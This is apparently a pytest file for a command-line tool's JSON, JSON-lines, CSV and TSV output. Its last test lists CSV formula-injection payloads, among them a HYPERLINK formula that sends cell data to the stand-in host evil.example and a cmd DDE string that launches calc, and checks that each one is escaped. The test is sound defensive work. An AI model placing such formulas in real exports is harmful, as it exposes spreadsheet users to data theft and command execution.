"""The machine formats: one record a row, values as machines want them, readable by the standard library."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reasoning_cli.spreadsheet import cell
from reasoning_cli.terminal.listing import Column, Format, Listing, plain, to_json, to_json_lines, to_separated


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (datetime(2026, 11, 21, 3, 4, 5, 678901, tzinfo=UTC), "2026-11-21T03:04:05.678Z"),
        (datetime(2026, 11, 21, 3, 4, 5, tzinfo=timezone(timedelta(hours=2))), "2026-11-21T01:04:05.000Z"),
        (timedelta(hours=1, seconds=1), 3601),
        (Decimal("12.50"), "12.50"),
        (Path("/srv/x"), "/srv/x"),
        ({"a": [Decimal(1), (None, True)]}, {"a": ["1", [None, True]]}),
        (3, 3),
        (True, True),
        (None, None),
    ],
)
def test_values_as_machines_want_them(value: object, expected: object) -> None:
    assert plain(value) == expected


def test_people_see_a_dash_where_machines_see_null() -> None:
    column: Column[dict[str, object]] = Column("price", lambda row: row["price"], "$/H")
    assert column.cell({"price": None}) == "–"
    assert Listing([column], [{"price": None}], id=str).records() == [{"price": None}]


cells = st.none() | st.booleans() | st.integers() | st.text(st.characters(codec="utf-8"))
records = st.lists(st.fixed_dictionaries({"name": cells, "value": cells}), max_size=5)


@given(records)
def test_json_is_read_back_as_it_was(rows: list[dict[str, object]]) -> None:
    assert json.loads(to_json(rows)) == rows
    assert [json.loads(line) for line in to_json_lines(rows).split("\n") if line] == rows


@pytest.mark.parametrize(("fmt", "delimiter"), [(Format.CSV, ","), (Format.TSV, "\t")])
def test_separated_values_are_read_back_as_text(fmt: Format, delimiter: str) -> None:
    @given(records)
    def read_back(rows: list[dict[str, object]]) -> None:
        text = to_separated(["name", "value"], rows, fmt)
        header, *lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        assert header == ["name", "value"]
        assert lines == [[spelt(row[key]) for key in header] for row in rows]

    check: Callable[[], None] = read_back
    check()


def spelt(value: object) -> str:
    if value is None:
        return ""
    return str(value).lower() if isinstance(value, bool) else cell(value) if isinstance(value, str) else str(value)


@pytest.mark.parametrize("fmt", [Format.CSV, Format.TSV])
@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+1-2", "'+1-2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("- a list", "'- a list"),
        ("-5", "-5"),
        ("+3.2", "+3.2"),
        ("-1,234.50", "-1,234.50"),
        ("-.5e-7", "-.5e-7"),
        (Decimal("-0.25"), "-0.25"),
        (-5, "-5"),
        (-5.5, "-5.5"),
        (None, ""),
        ("a=b", "a=b"),
        (["=1"], '["=1"]'),
    ],
)
def test_no_cell_is_a_formula_and_numbers_stay_numbers(fmt: Format, value: object, shown: str) -> None:
    text = to_separated(["a", "b"], [{"a": "x", "b": plain(value)}], fmt)
    delimiter = "\t" if fmt is Format.TSV else ","
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1] == ["x", shown]


def test_characters_stay_as_they_are_in_json() -> None:
    assert "名前 …" in to_json({"name": "名前 …"})
    assert "名前 …" in to_json_lines([{"name": "名前 …"}])
